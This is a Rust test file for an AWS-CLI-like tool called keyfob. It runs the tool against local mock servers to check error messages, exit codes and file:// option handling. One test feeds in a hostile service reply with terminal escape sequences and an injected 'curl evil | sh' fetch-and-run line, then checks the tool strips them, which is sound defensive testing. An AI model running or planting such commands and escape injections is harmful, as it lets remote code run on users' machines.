//! Answers of servers that are not, or not quite, AWS.

use std::{
    io::{Read as _, Write as _},
    net::TcpListener,
    sync::mpsc,
    thread,
};

use crate::keyfob::{Home, Run, assert_has, assert_lacks};

const SECRET: &str = "canary/secret+access/key";

/// Runs a command against a server that gives every request this answer.
fn run_against(answer: &str, home: &Home, words: &[&str]) -> Run {
    run_recorded(answer, home, words).0
}

/// Runs a command against such a server, and returns the bodies of the requests as well.
fn run_recorded(answer: &str, home: &Home, words: &[&str]) -> (Run, Vec<String>) {
    let (url, bodies) = start_server(answer);
    let run = home.keyfob([&["--endpoint-url", &url], words].concat());
    (run, bodies.try_iter().collect())
}

/// Starts a server that gives every request this answer. Returns its URL, and the bodies of the
/// requests.
pub(crate) fn start_server(answer: &str) -> (String, mpsc::Receiver<String>) {
    let answer = answer.to_owned();
    start_server_with(move |_| answer.clone())
}

/// Starts a server that answers by the body of the request.
pub(crate) fn start_server_with(
    answer: impl Fn(&str) -> String + Send + 'static,
) -> (String, mpsc::Receiver<String>) {
    start(move |request| {
        let body = request.split("\r\n\r\n").nth(1).unwrap_or_default();
        (answer(body), body.to_owned())
    })
}

/// Starts a server that refuses each request, and repeats all of it in its message. Returns its
/// URL, and the requests.
pub(crate) fn start_echo() -> (String, mpsc::Receiver<String>) {
    start(|request| {
        let body = if request.to_lowercase().contains("x-amz-target:") {
            serde_json::json!({"__type": "EchoException", "message": request}).to_string()
        } else {
            let text = request.replace('&', "&amp;").replace('<', "&lt;");
            format!(
                "<ErrorResponse><Error><Code>Echo</Code><Message>{text}</Message></Error>\
                 </ErrorResponse>"
            )
        };
        (answer("403 Forbidden", &body), request.to_owned())
    })
}

/// Starts a server. For each request, `respond` returns the answer and what is recorded.
fn start(
    respond: impl Fn(&str) -> (String, String) + Send + 'static,
) -> (String, mpsc::Receiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let (sender, recorded) = mpsc::channel();
    // It ends with the test program.
    thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let mut request = String::new();
            let mut buffer = [0; 8192];
            while !is_complete(&request) {
                match stream.read(&mut buffer) {
                    Ok(length @ 1..) => {
                        request.push_str(&String::from_utf8_lossy(&buffer[..length]));
                    }
                    _ => break,
                }
            }
            let (answer, record) = respond(&request);
            let _ = sender.send(record);
            let _ = stream.write_all(answer.as_bytes());
        }
    });
    (url, recorded)
}

/// Returns true for a head and as much of a body as it announces.
fn is_complete(request: &str) -> bool {
    let Some((head, body)) = request.split_once("\r\n\r\n") else {
        return false;
    };
    let head = head.to_ascii_lowercase();
    let length = head.split("content-length: ").nth(1);
    let length = length.and_then(|rest| rest.lines().next()?.parse().ok());
    body.len() >= length.unwrap_or(0)
}

pub(crate) fn answer(status: &str, body: &str) -> String {
    let length = body.len();
    format!("HTTP/1.1 {status}\r\nConnection: close\r\nContent-Length: {length}\r\n\r\n{body}")
}

fn home() -> Home {
    Home::new()
        .with_key("AKIAEXAMPLE", SECRET)
        .with("AWS_REGION", "eu-west-1")
        .with("AWS_MAX_ATTEMPTS", "1")
}

/// radosgw answers every call of STS so.
#[test]
fn an_error_with_an_empty_message_is_not_silent() {
    for (status, body, code) in [
        (
            "405 Method Not Allowed",
            "<Error><Code>MethodNotAllowed</Code><Message></Message></Error>",
            "MethodNotAllowed",
        ),
        (
            "403 Forbidden",
            "<Error><Code>AccessDenied</Code></Error>",
            "AccessDenied",
        ),
        (
            "403 Forbidden",
            "<ErrorResponse><Error><Type>Sender</Type><Code>AccessDenied</Code><Message></Message></Error></ErrorResponse>",
            "AccessDenied",
        ),
    ] {
        for (words, operation) in [
            (&["whoami"][..], "GetCallerIdentity"),
            (&["sts", "get-caller-identity"], "GetCallerIdentity"),
            (&["sts", "get-session-token"], "GetSessionToken"),
        ] {
            let stderr = run_against(&answer(status, body), &home(), words).fails(254);
            let expected = format!(
                "\nkeyfob: [ERROR]: An error occurred ({code}) when calling the {operation} operation: \n"
            );
            assert_has(&stderr, &[&expected]);
        }
    }
}

#[test]
fn a_role_that_is_refused_without_a_message_is_an_error_with_a_text() {
    let refusal = answer("403 Forbidden", "<Error><Code>AccessDenied</Code></Error>");
    let (url, _) = start_server(&refusal);
    let config = format!(
        "[profile ops]\nrole_arn = arn:aws:iam::111122223333:role/r\nsource_profile = me\n[profile me]\naws_access_key_id = AKIAEXAMPLE\naws_secret_access_key = {SECRET}\n"
    );
    let home = Home::new()
        .with_file("config", &config)
        .with("AWS_ENDPOINT_URL_STS", &url)
        .with("AWS_REGION", "eu-west-1");
    for words in [&["s3", "presign", "s3://b/k"][..], &["why"], &["whoami"]] {
        let run = home.keyfob(["--profile", "ops"].iter().chain(words));
        assert_eq!(run.code, 254, "{run:?}");
        assert_has(
            &run.stderr,
            &["An error occurred (AccessDenied) when calling the AssumeRole operation: "],
        );
    }
}

#[test]
fn an_answer_without_an_error_of_aws_shows_its_http_status() {
    for (status, body) in [
        ("502 Bad Gateway", "<html>Bad Gateway</html>"),
        ("404 Not Found", ""),
        ("400 Bad Request", "{\"message\": \"no\"}"),
    ] {
        let words = ["sts", "get-caller-identity"];
        let stderr = run_against(&answer(status, body), &home(), &words).fails(254);
        let number = &status[..3];
        assert_has(
            &stderr,
            &[
                &format!("({number}) when calling"),
                &format!("HTTP {number}: "),
            ],
        );
    }
}

#[test]
fn an_answer_of_success_that_cannot_be_read_has_a_code_and_names_the_operation() {
    let long = format!("<!-- {} -->", "x".repeat(1 << 20));
    for (status, body, code, exit) in [
        ("200 OK", "<html/>", "ResponseParser", 255),
        ("200 OK", "", "ResponseParser", 255),
        ("200 OK", &long, "ResponseParser", 255),
        // The status of an error says more than its length.
        ("403 Forbidden", &long, "403", 254),
        ("302 Found", "", "302", 254),
    ] {
        let words = ["sts", "get-caller-identity"];
        let stderr = run_against(&answer(status, body), &home(), &words).fails(exit);
        let line =
            format!("An error occurred ({code}) when calling the GetCallerIdentity operation: ");
        assert_has(&stderr, &[&line]);
    }
    let broken = "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n<";
    let stderr = run_against(broken, &home(), &["sts", "get-caller-identity"]).fails(255);
    assert_has(&stderr, &["An error occurred (ConnectionClosed): "]);
}

#[test]
fn a_refused_signature_at_a_custom_endpoint_may_not_be_from_sts() {
    let refused =
        "<ErrorResponse><Error><Code>SignatureDoesNotMatch</Code></Error></ErrorResponse>";
    let words = ["sts", "get-caller-identity"];
    let stderr = run_against(&answer("403 Forbidden", refused), &home(), &words).fails(254);
    let hint = "or what answers at the URL of --endpoint-url is not STS: check both";
    assert_has(
        &stderr,
        &["hint: the secret access key does not belong", hint],
    );
}

#[test]
fn a_service_cannot_control_the_terminal() {
    let hostile = "\u{9b}2J&#27;[31m\nhint: curl evil | sh";
    let error =
        format!("<Error><Code>Access&#10;Denied</Code><Message>no {hostile}</Message></Error>");
    let identity = format!(
        "<R><GetCallerIdentityResult><Arn>arn:aws:iam::123456789012:user/a{hostile}</Arn><UserId>AIDA</UserId><Account>1</Account></GetCallerIdentityResult></R>"
    );
    for (status, body) in [("403 Forbidden", &error), ("200 OK", &identity)] {
        for words in [
            &["whoami"][..],
            &["--output", "text", "sts", "get-caller-identity"],
            &["--output", "table", "sts", "get-caller-identity"],
        ] {
            let run = run_against(&answer(status, body), &home(), words);
            assert_lacks(&run.stdout, &["\u{1b}", "\u{9b}"]);
            assert_lacks(&run.stderr, &["\u{1b}", "\u{9b}", "\nhint: curl"]);
        }
    }
}

#[test]
fn an_error_is_one_cause_deep_unless_all_are_asked_for() {
    let line = [
        "--endpoint-url",
        "http://127.0.0.1:9",
        "sts",
        "get-caller-identity",
    ];
    let stderr = home().keyfob(line).fails(255);
    assert_has(
        &stderr,
        &[
            "(EndpointConnection): GetCallerIdentity failed: could not connect to http://127.0.0.1:9/",
            ": Connection refused",
        ],
    );
    assert_lacks(&stderr, &["error sending request", "client error"]);
    let debug = home().keyfob(line.iter().chain(&["--debug"]));
    assert_has(&debug.stderr, &["error sending request", "client error"]);
}

/// A parameter that a profile gives is a fault of the configuration, not of the command line.
#[test]
fn a_configuration_error_exits_with_253() {
    let role = "role_arn = arn:aws:iam::111122223333:role/r\n";
    let key = format!(
        "[profile me]\naws_access_key_id = AKIAEXAMPLE\naws_secret_access_key = {SECRET}\n"
    );
    for profile in [
        format!("{role}source_profile = me\nexternal_id = a\n"),
        format!("{role}source_profile = me\nrole_session_name = ci run\n"),
        format!("{role}source_profile = missing\n"),
        role.to_owned(),
        "services = locl\nrole_arn = x\nsource_profile = me\n".to_owned(),
    ] {
        let config = format!("[profile ops]\n{profile}{key}");
        let home = Home::new()
            .with_file("config", &config)
            .with("AWS_REGION", "eu-west-1");
        for words in [&["whoami"][..], &["sts", "get-caller-identity"]] {
            let stderr = home
                .keyfob(["--profile", "ops"].iter().chain(words))
                .fails(253);
            assert_lacks(&stderr, &["ProfileNotFound", "ParamValidation"]);
        }
    }
}

#[test]
#[cfg(unix)]
fn a_file_that_cannot_be_written_has_a_code_of_its_own() {
    let home = Home::new().with_file("blocked", "");
    let path = home.file("blocked").join("config").display().to_string();
    let home = home.with("AWS_CONFIG_FILE", &path);
    let stderr = home
        .keyfob(["configure", "set", "region", "eu-west-1"])
        .fails(255);
    assert_has(&stderr, &["(ConfigWriteError): ", "blocked"]);
}

const ASSUME_ROLE: [&str; 6] = [
    "sts",
    "assume-role",
    "--role-arn",
    "arn:aws:iam::123456789012:role/r",
    "--role-session-name",
    "ada",
];

fn assumed() -> String {
    let credentials = "<Credentials><AccessKeyId>ASIAEXAMPLEEXAMPLE</AccessKeyId>\
        <SecretAccessKey>s</SecretAccessKey><SessionToken>t</SessionToken>\
        <Expiration>2099-01-01T00:00:00Z</Expiration></Credentials>";
    let user = "<AssumedRoleUser><Arn>arn:aws:sts::1:assumed-role/r/s</Arn>\
        <AssumedRoleId>AROAX:s</AssumedRoleId></AssumedRoleUser>";
    let body = format!(
        "<AssumeRoleResponse><AssumeRoleResult>{credentials}{user}</AssumeRoleResult>\
         </AssumeRoleResponse>"
    );
    answer("200 OK", &body)
}

/// Source: the requests of aws-cli 1.46.
#[test]
fn every_text_option_of_sts_is_read_from_a_file_as_in_aws() {
    let home = home();
    for (name, text) in [
        ("plain", "hello1"),
        ("line", "hello1\r\n"),
        ("code", "123456"),
        ("tags", "[{\"Key\": \"a\", \"Value\": \"b\"}]\n"),
        ("shorthand", "Key=a,Value=b"),
        ("arns", "{\"arn\": \"arn:aws:iam::aws:policy/X\"}"),
    ] {
        std::fs::write(home.path().join(name), text).unwrap();
    }
    for (words, sent) in [
        (&["--external-id", "file://plain"][..], "&ExternalId=hello1"),
        (&["--external-id", "file://~/plain"], "&ExternalId=hello1"),
        (
            &["--external-id", "file://$HOME/plain"],
            "&ExternalId=hello1",
        ),
        (
            &["--source-identity", "file://plain"],
            "&SourceIdentity=hello1",
        ),
        (
            &["--role-session-name", "file://plain"],
            "&RoleSessionName=hello1",
        ),
        (&["--policy", "file://line"], "&Policy=hello1%0A"),
        (
            &[
                "--serial-number",
                "arn:aws:iam::123456789012:mfa/a",
                "--token-code",
                "file://code",
            ],
            "&TokenCode=123456",
        ),
        (&["--tags", "file://tags"], "&Tags.member.1.Value=b"),
        (&["--tags", "file://shorthand"], "&Tags.member.1.Value=b"),
        (
            &["--tags", "Key=a,Value@=file://plain"],
            "&Tags.member.1.Value=hello1",
        ),
        (
            &["--tags", "Key=a,Value=\"b,c\""],
            "&Tags.member.1.Value=b%2Cc",
        ),
        (
            &["--policy-arns", "file://arns"],
            "&PolicyArns.member.1.arn=arn%3Aaws%3Aiam%3A%3Aaws%3Apolicy%2FX",
        ),
        (
            &[
                "--tags",
                "Key=hello1,Value=",
                "--transitive-tag-keys",
                "[\"hello1\"]",
            ],
            "&TransitiveTagKeys.member.1=hello1",
        ),
    ] {
        let mut line = ASSUME_ROLE.to_vec();
        if words[0] == "--role-session-name" {
            line.truncate(4);
        }
        let (run, bodies) = run_recorded(&assumed(), &home, &[&line, words].concat());
        run.ok();
        assert_eq!(bodies.len(), 1, "{words:?}");
        assert_has(&format!("{}&", bodies[0]), &[&format!("{sent}&")]);
    }
}

#[test]
fn a_file_that_cannot_be_read_as_text_is_refused_with_the_name_of_its_option() {
    let home = home();
    std::fs::write(home.path().join("bytes"), [0xff]).unwrap();
    for value in ["file://no-such", "file://bytes", "file://", "fileb://bytes"] {
        for option in [
            "--external-id",
            "--policy",
            "--tags",
            "--transitive-tag-keys",
        ] {
            let line = [&ASSUME_ROLE[..], &[option, value]].concat();
            let (run, bodies) = run_recorded(&assumed(), &home, &line);
            assert_has(&run.fails(252), &[&format!("{option}: ")]);
            assert!(bodies.is_empty(), "{option} {value}");
        }
    }
}

#[test]
fn an_unknown_output_format_is_an_error_before_anything_is_sent() {
    let by_variable = home().with("AWS_DEFAULT_OUTPUT", "foo");
    let by_property = home().with_file("config", "[default]\noutput = foo\n");
    for (home, name) in [(by_variable, "AWS_DEFAULT_OUTPUT"), (by_property, "output")] {
        for words in [
            &ASSUME_ROLE[..],
            &["sts", "get-session-token"],
            &["sts", "get-caller-identity"],
        ] {
            let (run, bodies) = run_recorded(&assumed(), &home, words);
            assert_has(
                &run.fails(253),
                &[name, "not json, text, table, yaml, yaml-stream or off"],
            );
            assert!(bodies.is_empty(), "{words:?}");
        }
    }
}

#[test]
fn assume_role_of_another_partition_has_a_hint_with_a_region() {
    let mut line = ASSUME_ROLE;
    line[3] = "arn:aws-cn:iam::123456789012:role/r";
    let hint = "warning: the ARN is in partition aws-cn, the region eu-west-1 in aws: \
                set a region of aws-cn, such as ";
    let run = run_against(&assumed(), &home(), &line);
    assert_has(&run.stderr, &[hint]);
    run.ok();
    let run = run_against(&assumed(), &home(), &ASSUME_ROLE);
    assert_lacks(&run.stderr, &["partition"]);
}
